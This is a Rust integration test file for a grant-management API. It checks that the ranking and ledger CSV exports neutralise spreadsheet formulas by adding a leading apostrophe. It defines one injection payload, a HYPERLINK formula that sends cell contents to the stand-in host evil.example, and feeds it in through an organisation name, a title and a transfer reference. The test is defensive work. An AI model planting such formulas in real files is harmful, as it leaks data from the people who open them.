//! Every CSV the API serves is written by one writer that defuses free text: an applicant's
//! title or organisation name that a spreadsheet would run as a formula reaches the admin's
//! ranking CSV as text, not as a live `=HYPERLINK(...)`.

mod common;

use common::*;
use grantdesk_api::auth::Role;
use serde_json::json;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")";

async fn csv_text(app: &TestApp, token: &str, path: &str) -> String {
    let res = app
        .client
        .get(format!("{}{path}", app.base))
        .bearer_auth(token)
        .send()
        .await
        .expect("csv");
    assert_eq!(res.status().as_u16(), 200);
    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
    res.text().await.expect("text")
}

fn records(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .collect::<Result<_, _>>()
        .expect("valid CSV")
}

#[tokio::test]
async fn a_formula_in_a_title_or_an_organisation_name_reaches_the_ranking_csv_as_text() {
    let app = spawn_app().await;
    let admin = app.login(Role::Admin).await;
    let finance = app.login(Role::Finance).await;
    app.set_time(brussels(2023, 7, 10, 9, 0, 0));
    let call = app
        .open_call(&admin, &finance, reference_call("CSV23"))
        .await;
    app.set_time(brussels(2023, 8, 20, 9, 0, 0));
    let applicant = app.applicant().await;
    let org = app.organisation(&applicant, FORMULA, &kbo(701)).await;
    let mut body = complete_application(&org);
    body["title"] = json!(FORMULA);
    body["answers"] = json!({});
    let id = app
        .post(
            &format!("/api/v1/calls/{call}/applications"),
            Some(&applicant),
            body,
        )
        .await
        .ok(201)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    app.post(
        &format!("/api/v1/applications/{id}/submit"),
        Some(&applicant),
        json!({}),
    )
    .await
    .ok(201);
    app.set_time(brussels(2023, 9, 1, 9, 0, 0));
    app.post(
        &format!("/api/v1/calls/{call}/assessment"),
        Some(&admin),
        json!({}),
    )
    .await
    .ok(200);
    app.post(
        &format!("/api/v1/applications/{id}/screening"),
        Some(&admin),
        json!({"verdict": "eligible"}),
    )
    .await
    .ok(201);

    // the JSON ranking carries the text as it was typed
    let json = app
        .get(&format!("/api/v1/calls/{call}/ranking"), Some(&admin))
        .await;
    assert_eq!(json.ok(200)[0]["title"], FORMULA);
    assert_eq!(json.body[0]["lead_organisation"], FORMULA);

    // the CSV defuses it: a leading apostrophe, so no spreadsheet runs it
    let text = csv_text(
        &app,
        &admin,
        &format!("/api/v1/calls/{call}/ranking?format=csv"),
    )
    .await;
    let rows = records(&text);
    assert_eq!(rows.len(), 1);
    let defused = format!("'{FORMULA}");
    assert_eq!(&rows[0][4], defused.as_str(), "lead_organisation: {text}");
    assert_eq!(&rows[0][5], defused.as_str(), "title: {text}");
    // values the system made are written as they are
    assert_eq!(&rows[0][6], "25000.50");
    assert!(!text.contains(",=HYPERLINK"), "{text}");
}

#[tokio::test]
async fn a_formula_in_a_transfer_reference_reaches_the_ledger_csv_as_text() {
    let app = spawn_app().await;
    let finance = app.login(Role::Finance).await;
    app.post(
        "/api/v1/budget-articles",
        Some(&finance),
        json!({"code": "SJ0-1SMC2GA-WT", "budget_year": 2023, "description": "Expertenpool"}),
    )
    .await
    .ok(201);
    app.post(
        "/api/v1/budget-articles/SJ0-1SMC2GA-WT/2023/credits",
        Some(&finance),
        json!({"transfer_id": uuid::Uuid::new_v4(), "amount": "100.00", "reference": FORMULA}),
    )
    .await
    .ok(201);
    let text = csv_text(&app, &finance, "/api/v1/ledger/export.csv").await;
    let rows = records(&text);
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][13], format!("'{FORMULA}").as_str(), "{text}");
    assert_eq!(&rows[0][10], "100.00");
    // RFC 4180 line ends, as every CSV of the API
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'));
}
